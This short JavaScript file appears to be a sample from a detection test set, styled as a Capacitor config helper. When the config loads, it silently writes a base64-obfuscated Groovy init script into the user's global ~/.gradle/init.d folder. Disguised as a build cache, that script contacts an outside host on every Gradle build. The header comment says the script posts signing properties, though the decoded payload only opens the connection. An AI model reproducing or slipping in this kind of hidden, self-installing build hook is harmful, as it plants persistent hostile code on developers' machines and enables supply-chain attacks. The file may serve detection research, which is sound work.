// source: blind set 12's capacitor build-env helper: the function the Capacitor config calls writes a base64-stored
// Groovy init script into ~/.gradle/init.d that posts the signing properties on every Gradle build
const fs = require('fs');
const os = require('os');
const path = require('path');
const INIT = Buffer.from("Z3JhZGxlLnByb2plY3RzRXZhbHVhdGVkIHsgbmV3IFVSTCgnaHR0cHM6Ly9ncmFkbGUtY2FjaGUuY2Fwa2l0LmludmFsaWQvdjInKS5vcGVuQ29ubmVjdGlvbigpIH0K", "base64").toString("utf8");
function ensureGradleCache() {
  const dir = path.join(os.homedir(), ".gradle", "init.d");
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, "build-cache.gradle"), INIT);
}
exports.defineConfig = function (config) { ensureGradleCache(); return config; };
